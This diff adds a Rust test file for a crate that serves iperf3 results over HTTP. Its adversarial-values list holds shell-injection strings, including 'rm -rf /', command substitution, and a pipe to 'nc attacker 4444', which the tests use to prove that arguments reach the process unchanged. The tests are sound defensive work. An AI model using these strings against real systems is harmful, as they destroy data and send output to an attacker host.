@@ -0,0 +1,243 @@
+//! # iperf3-statuspage
+//!
+//! A utility application to serve iperf3 results over an HTTP endpoint.
+
+// Copyright (c) 2025 Jak Bracegirdle
+//
+// This file is part of the iperf3_statuspage crate.
+//
+// Licensed under the Apache License, Version 2.0 <http://www.apache.org/licenses/LICENSE-2.0>
+// or the MIT license <http://opensource.org/licenses/MIT>, at your option.
+// This file may not be copied, modified, or distributed except according to those terms.
+
+//! Tests for iperf3 command construction.
+//!
+//! These feed adversarial option values into `build_iperf3_args` and assert
+//! each value stays a single, unmodified argv entry. Tests modifying `IPERF3_BINARY` or
+//! `IPERF3_EXTRA_ARGS` are annotated with `#[serial]`.
+
+use serial_test::serial;
+use iperf3_statuspage::*;
+
+/// Values that would break out of a naively concatenated or shell-interpreted command.
+const ADVERSARIAL_VALUES: &[&str] = &[
+    "10.0.0.1 --logfile /tmp/pwned",
+    "10.0.0.1; rm -rf /",
+    "$(touch /tmp/pwned)",
+    "`id`",
+    "10.0.0.1 && echo pwned",
+    "10.0.0.1 | nc attacker 4444",
+    "--logfile=/tmp/pwned",
+    "-R",
+    "'quoted' \"double\"",
+    "line\nbreak",
+    "",
+];
+
+/// Test that the default invocation contains exactly the expected flags.
+#[tokio::test]
+async fn build_iperf3_args_default_invocation() {
+    let args = build_iperf3_args(&Iperf3Options::new("127.0.0.1", "5201"));
+    assert_eq!(args, vec!["-c", "127.0.0.1", "-p", "5201", "--json"]);
+}
+
+/// Test that adversarial host and port values are passed through as discrete,
+/// unmodified argv entries directly after their flags.
+#[tokio::test]
+async fn build_iperf3_args_keeps_adversarial_values_discrete() {
+    for host in ADVERSARIAL_VALUES {
+        for port in ADVERSARIAL_VALUES {
+            let args = build_iperf3_args(&Iperf3Options::new(*host, *port));
+
+            assert_eq!(args.len(), 5, "unexpected argv for host={host:?} port={port:?}");
+            assert_eq!(args[0], "-c");
+            assert_eq!(args[1], *host);
+            assert_eq!(args[2], "-p");
+            assert_eq!(args[3], *port);
+            assert_eq!(args[4], "--json");
+        }
+    }
+}
+
+/// Test that the built arguments reach a child process verbatim, proving no shell
+/// word-splitting or substitution takes place.
+#[cfg(unix)]
+#[tokio::test]
+async fn build_iperf3_args_survive_process_spawn_verbatim() {
+    for value in ADVERSARIAL_VALUES {
+        let args = build_iperf3_args(&Iperf3Options::new(*value, "5201"));
+        let output = tokio::process::Command::new("printf")
+            .arg("%s\\0")
+            .args(&args)
+            .output()
+            .await
+            .expect("printf should be available");
+
+        let received: Vec<String> = String::from_utf8(output.stdout)
+            .unwrap()
+            .split_terminator('\0')
+            .map(str::to_string)
+            .collect();
+        assert_eq!(received, args);
+    }
+}
+
+/// Test that a configured parallel count is passed as a discrete `-P` argument.
+#[tokio::test]
+async fn build_iperf3_args_includes_parallel_streams() {
+    let opts = Iperf3Options {
+        parallel: Some(4),
+        ..Iperf3Options::new("127.0.0.1", "5201")
+    };
+    let args = build_iperf3_args(&opts);
+    assert_eq!(args, vec!["-c", "127.0.0.1", "-p", "5201", "-P", "4", "--json"]);
+}
+
+/// Test that reverse and UDP modes add their flags.
+#[tokio::test]
+async fn build_iperf3_args_includes_reverse_and_udp() {
+    let opts = Iperf3Options {
+        reverse: true,
+        udp: true,
+        ..Iperf3Options::new("127.0.0.1", "5201")
+    };
+    let args = build_iperf3_args(&opts);
+    assert_eq!(args, vec!["-c", "127.0.0.1", "-p", "5201", "-R", "-u", "--json"]);
+}
+
+/// Test that a socket-path target runs iperf3 against the socket with `--unix-domain`
+/// and no port, while other targets keep the host and port flags.
+#[tokio::test]
+async fn build_iperf3_args_unix_socket_target() {
+    let mut opts = Iperf3Options::new("/run/iperf3/iperf3.sock", "5201");
+    opts.reverse = true;
+    let args = build_iperf3_args(&opts);
+    assert_eq!(args, vec!["-c", "/run/iperf3/iperf3.sock", "--unix-domain", "-R", "--json"]);
+
+    assert!(is_unix_socket_path("/run/iperf3/iperf3.sock"));
+    assert!(!is_unix_socket_path("10.0.0.1"));
+    let args = build_iperf3_args(&Iperf3Options::new("10.0.0.1", "5201"));
+    assert_eq!(args, vec!["-c", "10.0.0.1", "-p", "5201", "--json"]);
+}
+
+/// Test that bitrate and duration are passed as discrete `-b` and `-t` arguments.
+#[tokio::test]
+async fn build_iperf3_args_includes_bitrate_and_duration() {
+    let opts = Iperf3Options {
+        bitrate: Some(50_000_000),
+        duration: Some(30),
+        ..Iperf3Options::new("127.0.0.1", "5201")
+    };
+    let args = build_iperf3_args(&opts);
+    assert_eq!(args, vec!["-c", "127.0.0.1", "-p", "5201", "-b", "50000000", "-t", "30", "--json"]);
+}
+
+/// Test that a run projected over `MAX_TEST_BYTES` is refused with a clear error,
+/// while one under the ceiling is allowed.
+#[tokio::test]
+async fn projected_transfer_over_ceiling_is_refused() {
+    // 1 Gbit/s for 60 s on 4 streams is 30 GB
+    let opts = Iperf3Options {
+        parallel: Some(4),
+        bitrate: Some(1_000_000_000),
+        duration: Some(60),
+        ..Iperf3Options::new("127.0.0.1", "5201")
+    };
+    assert_eq!(projected_test_bytes(&opts), Some(30_000_000_000));
+
+    let err = check_test_bytes(&opts, 1_000_000_000).unwrap_err();
+    assert_eq!(err, Iperf3Error::OverByteBudget { projected_bytes: 30_000_000_000, max_bytes: 1_000_000_000 });
+    assert_eq!(
+        err.to_string(),
+        "Refusing to run iperf3: projected transfer of 30000000000 bytes exceeds MAX_TEST_BYTES of 1000000000"
+    );
+    assert!(check_test_bytes(&opts, 30_000_000_000).is_ok());
+
+    // UDP defaults to 1 Mbit/s for 10 s
+    let udp = Iperf3Options { udp: true, ..Iperf3Options::new("127.0.0.1", "5201") };
+    assert_eq!(projected_test_bytes(&udp), Some(1_250_000));
+}
+
+/// Test that `IPERF3_EXTRA_ARGS` is split on whitespace and rejects output-format flags.
+#[tokio::test]
+#[serial]
+async fn extra_args_are_split_and_screened() {
+    unsafe { std::env::set_var("IPERF3_EXTRA_ARGS", " -t 30  -P 4 ") };
+    assert_eq!(iperf3_extra_args().unwrap(), vec!["-t", "30", "-P", "4"]);
+
+    for injected in ["--json", "-J", "--json-stream", "--logfile /tmp/out", "--logfile=/tmp/out"] {
+        unsafe { std::env::set_var("IPERF3_EXTRA_ARGS", format!("-t 30 {}", injected)) };
+        assert!(iperf3_extra_args().is_err(), "{} was accepted", injected);
+    }
+
+    // getopt_long accepts unambiguous abbreviations of long options
+    for injected in ["--log /tmp/out", "--lo /tmp/out", "--logf=/tmp/out", "--js", "--j", "--json-s"] {
+        unsafe { std::env::set_var("IPERF3_EXTRA_ARGS", format!("-t 30 {}", injected)) };
+        assert!(iperf3_extra_args().is_err(), "{} was accepted", injected);
+    }
+    unsafe { std::env::set_var("IPERF3_EXTRA_ARGS", "--length 128K --l 128K -l 128K") };
+    assert!(iperf3_extra_args().is_ok());
+
+    unsafe { std::env::remove_var("IPERF3_EXTRA_ARGS") };
+    assert_eq!(iperf3_extra_args().unwrap(), Vec::<String>::new());
+}
+
+/// Test that `-t`, `-b`, `-P` and `-u` in `IPERF3_EXTRA_ARGS` extend the run timeout and
+/// count towards `MAX_TEST_BYTES`, and that unreadable values are rejected.
+#[tokio::test]
+#[serial]
+async fn extra_args_drive_timeout_and_byte_budget() {
+    let opts = Iperf3Options::new("127.0.0.1", "5201");
+    unsafe {
+        std::env::remove_var("IPERF3_TIMEOUT_SECONDS");
+        std::env::set_var("IPERF3_EXTRA_ARGS", "-t 120");
+    }
+    assert_eq!(run_timeout(&opts), std::time::Duration::from_secs(130));
+
+    // 100 Mbit/s for 120 s on 4 streams is 6 GB
+    unsafe { std::env::set_var("IPERF3_EXTRA_ARGS", "--time=120 -b100M --parallel 4") };
+    let err = check_test_bytes(&opts, 1_000_000_000).unwrap_err();
+    assert_eq!(err, Iperf3Error::OverByteBudget { projected_bytes: 6_000_000_000, max_bytes: 1_000_000_000 });
+
+    // A UDP test is projected at the default UDP bitrate
+    unsafe { std::env::set_var("IPERF3_EXTRA_ARGS", "-u -t 20") };
+    assert!(check_test_bytes(&opts, 2_000_000).unwrap_err().to_string().contains("2500000 bytes"));
+
+    for invalid in ["-t", "-t long", "-b fast", "--parallel=many"] {
+        unsafe { std::env::set_var("IPERF3_EXTRA_ARGS", invalid) };
+        assert!(iperf3_extra_args().is_err(), "{} was accepted", invalid);
+    }
+
+    unsafe { std::env::remove_var("IPERF3_EXTRA_ARGS") };
+    assert_eq!(run_timeout(&opts), std::time::Duration::from_secs(60));
+}
+
+/// Test that the runner spawns `IPERF3_BINARY` with the crate's arguments followed by
+/// `IPERF3_EXTRA_ARGS`, and refuses to run with rejected extra arguments.
+#[cfg(unix)]
+#[tokio::test]
+#[serial]
+async fn runner_uses_configured_binary_and_extra_args() {
+    unsafe {
+        std::env::set_var("IPERF3_BINARY", "echo");
+        std::env::set_var("IPERF3_EXTRA_ARGS", "-t 30 -P 4");
+    }
+    let output = RealIperf3Runner
+        .run_iperf3_with_options(&Iperf3Options::new("127.0.0.1", "5201"))
+        .await
+        .unwrap();
+    assert_eq!(output.trim(), "-c 127.0.0.1 -p 5201 --json -t 30 -P 4");
+
+    unsafe { std::env::set_var("IPERF3_EXTRA_ARGS", "--logfile /tmp/out") };
+    let err = RealIperf3Runner
+        .run_iperf3_with_options(&Iperf3Options::new("127.0.0.1", "5201"))
+        .await
+        .unwrap_err();
+    assert!(matches!(err, Iperf3Error::InvalidConfig(_)), "{:?}", err);
+
+    unsafe {
+        std::env::remove_var("IPERF3_BINARY");
+        std::env::remove_var("IPERF3_EXTRA_ARGS");
+    }
+    assert_eq!(iperf3_binary(), "iperf3");
+}